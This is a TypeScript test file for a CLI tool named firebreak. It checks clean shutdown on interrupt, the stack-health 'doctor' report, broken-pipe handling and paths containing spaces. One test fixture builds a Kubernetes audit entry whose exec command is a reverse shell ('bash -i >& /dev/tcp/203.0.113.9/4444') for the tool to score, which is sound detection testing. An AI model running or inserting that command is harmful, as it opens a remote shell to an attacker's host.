import { strict as assert } from 'node:assert';
import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { cp, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { auditEntry } from '../../local/scenarios/audit-entry.ts';
import { ROOT } from '../../scripts/steps.ts';
import { skipBecause } from '../require.ts';
import { until } from './kit.ts';

const BIN = join(ROOT, 'cli', 'firebreak.mjs');

type Started = { child: ChildProcess; ended: Promise<{ code: number | null; out: string; err: string }> };

/** Starts a command in its own process group, as a shell does. */
const start = (
  args: readonly string[],
  options: { cwd: string; bin?: string; env?: Record<string, string> },
): Started => {
  const child = spawn(process.execPath, [options.bin ?? BIN, ...args], {
    cwd: options.cwd,
    env: { ...process.env, ...options.env },
    stdio: ['ignore', 'pipe', 'pipe'],
    detached: true,
  });
  const said = Promise.all([text(child.stdout), text(child.stderr)]);
  const ended = once(child, 'exit').then(async ([code]) => {
    const [out, err] = await said;
    return { code, out, err };
  });
  return { child, ended };
};

/** Ctrl-C at a terminal: the signal goes to the whole group. */
const interrupt = ({ child }: Started): void => void process.kill(-(child.pid ?? 0), 'SIGINT');

/** All descendants of a process. */
const below = (pid: number): number[] => {
  const rows = execFileSync('ps', ['-A', '-o', 'pid=,ppid='])
    .toString('utf8')
    .trim()
    .split('\n')
    .map((row) => row.trim().split(/\s+/).map(Number));
  const children = rows.flatMap(([child = 0, parent]) => (parent === pid ? [child] : []));
  return children.flatMap((child) => [child, ...below(child)]);
};

const lives = (pid: number): boolean => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

const listens = (url: string): Promise<boolean> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(url);
    const socket = connect(Number(port), hostname);
    socket.on('connect', () => resolve(true)).on('error', () => resolve(false));
    socket.on('connect', () => socket.destroy());
  });

describe('the command at a terminal', function () {
  this.timeout(150_000);
  const started: Started[] = [];
  let cwd: string;
  before(function () {
    if (process.platform === 'win32') skipBecause(this, 'Windows has no process groups');
  });
  beforeEach(async () => {
    cwd = await mkdtemp(join(tmpdir(), 'firebreak command '));
  });
  afterEach(async () => {
    for (const { child } of started.splice(0)) {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
    }
    await rm(cwd, { recursive: true });
  });
  const run = (...of: Parameters<typeof start>): Started => {
    const one = start(...of);
    started.push(one);
    return one;
  };
  const announced = async (): Promise<{ bus: string; functions: Record<string, string> } | undefined> =>
    readFile(join(cwd, '.firebreak', 'local.json'), 'utf8').then(JSON.parse, () => undefined);

  it('leaves no process, no port and no announcement when a local stack is interrupted', async () => {
    const local = run(['local'], { cwd });
    const { bus, functions } = await until(announced);
    const urls = [bus, ...Object.values(functions)];
    const pids = below(local.child.pid ?? 0);
    assert.ok(pids.length >= Object.keys(functions).length);
    assert.deepEqual(
      await Promise.all(urls.map(listens)),
      urls.map(() => true),
    );

    const doctor = await run(['doctor', '--json'], { cwd }).ended;
    assert.deepEqual([doctor.code, doctor.err], [0, '']);
    const { verdicts } = JSON.parse(doctor.out);
    assert.ok(verdicts.length > urls.length);
    assert.ok(verdicts.every(({ status }: { status: string }) => status === 'ok'));

    interrupt(local);
    const { code, err } = await local.ended;
    assert.deepEqual([code, err.split('\n').at(-2)], [0, 'Stopping ...']);
    assert.deepEqual(pids.filter(lives), []);
    assert.deepEqual(
      await Promise.all(urls.map(listens)),
      urls.map(() => false),
    );
    assert.equal(await announced(), undefined);
  });

  it('leaves no process and no folder when a demo is interrupted', async () => {
    const folder = await mkdtemp(join(cwd, 'tmp-'));
    const demo = run(['demo'], { cwd, env: { TMPDIR: folder } });
    const pids = await until(() => {
      const found = below(demo.child.pid ?? 0);
      return found.length >= 5 ? found : undefined;
    });
    interrupt(demo);
    const { code, out, err } = await demo.ended;
    assert.deepEqual([code, out], [1, '']);
    assert.match(err, /^firebreak: interrupted\.$/m);
    assert.deepEqual(pids.filter(lives), []);
    assert.deepEqual(await readdir(folder), []);
  });

  it('reports that a stack that was killed is no longer running', async () => {
    const noProcess = 2 ** 22 + 1;
    const file = { project: 'p1', bus: 'http://127.0.0.1:1', store: join(cwd, 'none'), pid: noProcess };
    await cp(join(ROOT, 'config'), join(cwd, '.firebreak'), { recursive: true });
    await writeFile(join(cwd, '.firebreak', 'local.json'), JSON.stringify(file));
    const { code, out } = await run(['doctor'], { cwd }).ended;
    assert.equal(code, 1);
    assert.match(out, new RegExp(`✘ stack: has stopped \\(process ${noProcess}\\)\\n {4}→ firebreak local\\n`));
  });

  it('ends quietly when `head -1` closes the pipe', async () => {
    const exec = { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' };
    const line = JSON.stringify(auditEntry({ ...exec, command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }));
    await writeFile(join(cwd, 'many.ndjson'), `${line}\n`.repeat(3000));
    for (const args of ['score many.ndjson', 'rules --json', 'completion bash']) {
      const script = `"$0" "$1" ${args} | head -1; echo "\${PIPESTATUS[0]}" >&2`;
      const ended = spawnSync('bash', ['-c', script, process.execPath, BIN], { cwd, encoding: 'utf8' });
      assert.deepEqual([ended.stderr, ended.stdout.split('\n').length], ['0\n', 2], args);
    }
  });

  it('runs from a checkout whose path holds a space', async () => {
    const checkout = join(cwd, 'a check out');
    const sources = ['cli', 'config', 'functions', 'local', 'shared', 'package.json'];
    for (const name of sources) await cp(join(ROOT, name), join(checkout, name), { recursive: true });
    await symlink(join(ROOT, 'node_modules'), join(checkout, 'node_modules'));
    const bin = join(checkout, 'cli', 'firebreak.mjs');
    const demo = await run(['demo', 'noisy-neighbour', '--json', '--timeout', '100'], { cwd: checkout, bin }).ended;
    assert.deepEqual([demo.code, demo.err], [0, '']);
    assert.equal(JSON.parse(demo.out).incidents.length, 1);
  });
});
